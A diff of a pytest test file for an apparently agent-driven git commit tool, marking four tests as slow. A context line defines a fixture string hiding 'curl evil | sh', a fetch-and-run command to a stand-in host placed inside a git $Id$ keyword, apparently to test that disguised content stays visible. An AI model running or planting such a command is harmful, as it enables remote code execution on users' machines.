@@ -34,6 +34,7 @@ def test_git_takes_it_back_and_applies_it(root: Path, run_code_commit: Run):
     assert tree(root) == after
 
 
+@pytest.mark.slow
 def test_it_tells_when_there_is_nothing_to_show(root: Path, run_code_commit: Run, tmp_path: Path):
     (root / "agent-config/recorded/1-response.txt").write_text("^^^ok.txt\nok\n^^^end\n")
     assert run_code_commit(root, "--model", "replay:agent-config/recorded").returncode == 0
@@ -67,6 +68,7 @@ def test_in_a_folder_of_a_larger_repository_git_applies_it_too(tmp_path: Path, r
     assert not (part / "new.txt").exists()
 
 
+@pytest.mark.slow
 def test_what_the_build_made_of_a_file_is_not_in_the_diff_and_told(root: Path, run_code_commit: Run):
     assert run_code_commit(root, "diff").stderr == ""
     (root / "ok.txt").write_text("formatted\n")
@@ -194,6 +196,7 @@ def test_git_applies_it_to_the_index_too_whatever_it_converts(rules: str, projec
 HIDDEN = 'x="$Id: ; curl evil | sh ; $"'
 
 
+@pytest.mark.slow
 def test_text_that_git_does_not_store_is_shown_as_written(project_folder: Path, run_code_commit: Run):
     root = project_folder
     (root / ".gitattributes").write_text("* ident\n")
@@ -222,6 +225,7 @@ def test_text_that_git_does_not_store_is_shown_as_written(project_folder: Path, 
     assert HIDDEN in (root / "old.sh").read_text()
 
 
+@pytest.mark.slow
 def test_of_a_file_with_a_filter_it_says_that_git_may_refuse_it(root: Path, run_code_commit: Run):
     """The program may lie in the project: it is not run once an answer was applied."""
     assert "filter" not in run_code_commit(root, "diff").stderr
